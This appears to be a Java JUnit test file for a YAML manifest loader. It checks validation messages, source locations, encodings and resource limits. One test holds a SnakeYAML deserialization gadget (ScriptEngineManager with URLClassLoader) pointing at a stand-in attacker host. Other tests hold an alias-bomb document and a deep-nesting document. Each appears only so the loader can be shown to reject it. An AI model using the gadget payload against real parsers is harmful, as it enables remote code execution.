package io.dockernet.manifest;

import static org.assertj.core.api.Assertions.assertThat;

import io.dockernet.api.v1alpha1.DockerNetwork;
import io.dockernet.api.v1alpha1.UpdatePolicy;
import io.dockernet.validate.Locator;
import io.dockernet.validate.Problem;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ManifestLoaderTest {
  private static final String NETWORK =
      """
      apiVersion: dockernet.io/v1alpha1
      kind: DockerNetwork
      metadata:
        name: web
      """;

  @TempDir Path dir;

  private static List<String> problems(LoadResult result) {
    return result.problems().stream().map(Problem::toString).toList();
  }

  @Test
  void documentsOfOtherApiGroupsAreSkippedAndReportedNotRejected() {
    LoadResult result =
        ManifestLoader.loadString(
            "repo/all.yaml",
            """
        apiVersion: v1
        kind: Namespace
        metadata: {name: team-a}
        ---
        apiVersion: kustomize.config.k8s.io/v1beta1
        kind: Kustomization
        resources: [net.yaml]
        ---
        apiVersion: dockernet.io/v1alpha1
        kind: DockerNetwork
        metadata: {name: web}
        """);
    assertThat(result.problems()).isEmpty();
    assertThat(result.manifests().networks()).hasSize(1);
    assertThat(result.skipped())
        .containsExactly(
            "repo/all.yaml:2:7: Namespace (v1)",
            "repo/all.yaml:6:7: Kustomization (kustomize.config.k8s.io/v1beta1)");
  }

  @Test
  void readsEveryKindFromMultiDocumentYamlAndDefaultsTheNamespace() {
    LoadResult result =
        ManifestLoader.loadString(
            "all.yaml",
            NETWORK
                + """
        spec:
          updatePolicy: Never
          ipam:
            config:
              - subnet: 10.123.244.0/24
        ---
        ---
        apiVersion: dockernet.io/v1alpha1
        kind: NetworkAttachment
        metadata:
          name: app
          namespace: team-a
        spec:
          network: web
          container: app-1
        ---
        apiVersion: dockernet.io/v1alpha1
        kind: DockerHost
        metadata:
          name: local
        spec:
          endpoint: unix:///var/run/docker.sock
        """);

    assertThat(result.problems()).isEmpty();
    Manifests m = result.manifests();
    assertThat(m.networks())
        .singleElement()
        .satisfies(
            n -> {
              assertThat(n.getMetadata().getNamespace()).isEqualTo("default");
              assertThat(n.getSpec().getUpdatePolicy()).isEqualTo(UpdatePolicy.Never);
              assertThat(n.getSpec().getIpam().getConfig().get(0).getSubnet())
                  .isEqualTo("10.123.244.0/24");
            });
    assertThat(m.attachments())
        .singleElement()
        .satisfies(a -> assertThat(a.getMetadata().getNamespace()).isEqualTo("team-a"));
    assertThat(m.hosts())
        .singleElement()
        .satisfies(h -> assertThat(h.getMetadata().getNamespace()).isNull());
  }

  @Test
  void locatorPointsAtTheWrittenNodeOrItsNearestParent() {
    LoadResult result =
        ManifestLoader.loadString(
            "nets.yaml",
            NETWORK
                + """
        spec:
          ipam:
            config:
              - subnet: 10.123.244.0/24
                gateway: 10.123.244.1
        """);
    DockerNetwork web = result.manifests().networks().get(0);
    Locator locator = result.manifests().locator();

    assertThat(locator.locate(web, "spec.ipam.config[0].gateway")).hasToString("nets.yaml:9:18");
    assertThat(locator.locate(web, "spec.ipam.config[0].ipRange")).hasToString("nets.yaml:8:9");
    assertThat(locator.locate(web, "spec.ipam")).hasToString("nets.yaml:6:3");
    assertThat(locator.locate(web, "spec.labels.x")).hasToString("nets.yaml:5:1");
    assertThat(locator.locate(web, "metadata.name")).hasToString("nets.yaml:4:9");
    assertThat(Locator.NONE.locate(web, "spec")).isNull();
  }

  @Test
  void reportsEveryWrongTypeAndUnknownFieldOfADocumentAtOnce() {
    LoadResult result =
        ManifestLoader.loadString(
            "web.yaml",
            NETWORK
                + """
          labels:
            version: 1.0
        spec:
          internal: "yes"
          driver: 42
          ipam:
            config:
              - subnet: 10.123.244.0/24
                gatway: 10.123.244.1
        """);

    assertThat(problems(result))
        .containsExactly(
            "web.yaml:6:14: metadata.labels.version: expected a string, got the number 1.0; quote it (\"1.0\") to make it a string",
            "web.yaml:8:13: spec.internal: expected true or false, got the string \"yes\"; write true or false without quotes",
            "web.yaml:9:11: spec.driver: expected a string, got the number 42; quote it (\"42\") to make it a string",
            "web.yaml:13:9: spec.ipam.config[0].gatway: unknown field \"gatway\"; did you mean \"gateway\"? "
                + "Known fields here: auxAddresses, gateway, ipRange, pool, subnet");
    assertThat(result.manifests().networks()).isEmpty();
  }

  @Test
  void badEnumListsTheAllowedValues() {
    LoadResult result =
        ManifestLoader.loadString("web.yaml", NETWORK + "spec:\n  deletionPolicy: orphan\n");
    assertThat(problems(result))
        .containsExactly(
            "web.yaml:6:19: spec.deletionPolicy: \"orphan\" is not a valid deletionPolicy; did you mean Orphan? "
                + "Allowed values: Delete, Orphan");
  }

  @Test
  void metadataMayOnlyCarryNameNamespaceLabelsAndAnnotations() {
    LoadResult result =
        ManifestLoader.loadString("web.yaml", NETWORK + "  resourceVersion: \"12\"\n");
    assertThat(problems(result))
        .containsExactly(
            "web.yaml:5:3: metadata.resourceVersion: unknown field \"resourceVersion\". Known fields here: name, "
                + "namespace, labels, annotations (a manifest's metadata may carry only name, namespace, labels and "
                + "annotations)");
  }

  @Test
  void syntaxErrorsAreLocatedAndKeepTheDocumentsBeforeThem() {
    LoadResult result =
        ManifestLoader.loadString(
            "web.yaml",
            NETWORK + "---\n" + NETWORK.replace("web", "api") + "spec:\n  driver: [bridge\n");
    assertThat(problems(result))
        .singleElement()
        .asString()
        .isEqualTo(
            "web.yaml:12:1: invalid YAML: expected ',' or ']', but got <stream end> (while parsing a flow "
                + "sequence at line 11, column 11)");
    assertThat(result.manifests().networks())
        .extracting(n -> n.getMetadata().getName())
        .containsExactly("web");
  }

  @Test
  void refusesTagsThatWouldInstantiateClasses() {
    LoadResult result =
        ManifestLoader.loadString(
            "evil.yaml",
            NETWORK
                + """
        spec:
          driver: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.invalid/"]]]]
        """);
    assertThat(problems(result))
        .containsExactly(
            "evil.yaml:6:11: the tag !!javax.script.ScriptEngineManager is not "
                + "allowed: dockernet reads plain YAML (strings, numbers, booleans, lists, mappings) and never creates objects from tags");
  }

  @Test
  void refusesFilesOverTheSizeLimitBeforeReadingThem() throws IOException {
    Path big = dir.resolve("big.yaml");
    byte[] filler = ("# " + "x".repeat(1022) + "\n").getBytes(StandardCharsets.US_ASCII);
    try (var out = Files.newOutputStream(big)) {
      out.write(NETWORK.getBytes(StandardCharsets.UTF_8));
      for (int i = 0; i < 4 * 1024 + 1; i++) {
        out.write(filler);
      }
    }
    assertThat(problems(ManifestLoader.load(big)))
        .containsExactly(
            big
                + ":1:1: the file is 4.0 MiB; manifests are limited to 4 MiB (split it into several files)");
  }

  @Test
  void refusesDeepNesting() {
    String deep = NETWORK + "spec:\n  labels: " + "{a: ".repeat(100) + "x" + "}".repeat(100) + "\n";
    LoadResult result = ManifestLoader.loadString("deep.yaml", deep);
    assertThat(problems(result))
        .singleElement()
        .asString()
        .startsWith("deep.yaml:6:")
        .endsWith("nested more than 64 levels deep; dockernet refuses such documents");
  }

  @Test
  void refusesBillionLaughsWithinTheAliasLimitByCountingExpandedValues() {
    // 8 levels of 5 aliases: 40 aliases (under SnakeYAML's limit of 50), 5^8 = 390625 values.
    StringBuilder yaml = new StringBuilder("l0: &l0 [lol, lol, lol, lol, lol]\n");
    for (int i = 1; i <= 8; i++) {
      yaml.append("l")
          .append(i)
          .append(": &l")
          .append(i)
          .append(" [")
          .append(String.join(", ", java.util.Collections.nCopies(5, "*l" + (i - 1))))
          .append("]\n");
    }
    LoadResult result = ManifestLoader.loadString("laughs.yaml", yaml.toString());
    assertThat(problems(result))
        .singleElement()
        .asString()
        .endsWith(
            "the document expands to more than 100000 values through aliases; dockernet refuses it as an alias bomb");
  }

  @Test
  void reportsInvalidUtf8WithLineColumnAndByteOffset() throws IOException {
    Path latin1 = dir.resolve("latin1.yaml");
    String before = NETWORK + "  labels:\n    owner: Ren";
    Files.write(latin1, (before + "\u00e9\n").getBytes(StandardCharsets.ISO_8859_1));
    assertThat(problems(ManifestLoader.load(latin1)))
        .containsExactly(
            latin1
                + ":6:15: not valid UTF-8: byte 0xE9 at "
                + "byte offset "
                + before.length()
                + "; dockernet reads UTF-8 only (re-save the file as UTF-8)");
  }

  @Test
  void acceptsAUtf8ByteOrderMarkAndRefusesUtf16() {
    byte[] bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
    byte[] body = NETWORK.getBytes(StandardCharsets.UTF_8);
    byte[] withBom = new byte[bom.length + body.length];
    System.arraycopy(bom, 0, withBom, 0, 3);
    System.arraycopy(body, 0, withBom, 3, body.length);
    assertThat(ManifestLoader.loadBytes("bom.yaml", withBom).problems()).isEmpty();
    assertThat(
            problems(
                ManifestLoader.loadBytes("utf16.yaml", NETWORK.getBytes(StandardCharsets.UTF_16))))
        .containsExactly(
            "utf16.yaml:1:1: the file is UTF-16 (it starts with a UTF-16 byte order mark); save it as UTF-8");
  }

  @Test
  void loadsDirectoriesRecursivelyInPathOrderSkippingHiddenDirectoriesAndOtherFiles()
      throws IOException {
    Files.createDirectories(dir.resolve("b/nested"));
    Files.createDirectories(dir.resolve(".git"));
    Files.writeString(dir.resolve("b/nested/z.yml"), NETWORK.replace("web", "third"));
    Files.writeString(dir.resolve("b/a.yaml"), NETWORK.replace("web", "second"));
    Files.writeString(dir.resolve("a.yaml"), NETWORK.replace("web", "first"));
    Files.writeString(dir.resolve("notes.txt"), "not yaml");
    Files.writeString(dir.resolve(".git/config.yaml"), "kind: Secret\n");

    LoadResult result = ManifestLoader.load(dir);

    assertThat(result.problems()).isEmpty();
    assertThat(result.manifests().networks())
        .extracting(n -> n.getMetadata().getName())
        .containsExactly("first", "second", "third");
  }

  @Test
  void problemsOfSeveralFilesComeSortedByFileAndLine() throws IOException {
    Files.writeString(dir.resolve("b.yaml"), NETWORK + "spec:\n  internal: 1\n");
    Files.writeString(dir.resolve("a.yaml"), NETWORK + "spec:\n  attachable: 1\n  internal: 2\n");
    assertThat(ManifestLoader.load(dir).problems())
        .extracting(p -> dir.relativize(Path.of(p.location().file())) + ":" + p.location().line())
        .containsExactly("a.yaml:6", "a.yaml:7", "b.yaml:6");
  }

  @Test
  void aMissingFileIsAProblemNotAnException() {
    Path missing = dir.resolve("missing.yaml");
    assertThat(problems(ManifestLoader.load(missing)))
        .containsExactly("cannot read " + missing + ": no such file or directory");
  }

  @Test
  void emptyInputGivesNothingAndNoProblem() {
    LoadResult result = ManifestLoader.loadString("empty.yaml", "# nothing here\n---\n");
    assertThat(result.problems()).isEmpty();
    assertThat(result.manifests().isEmpty()).isTrue();
  }
}
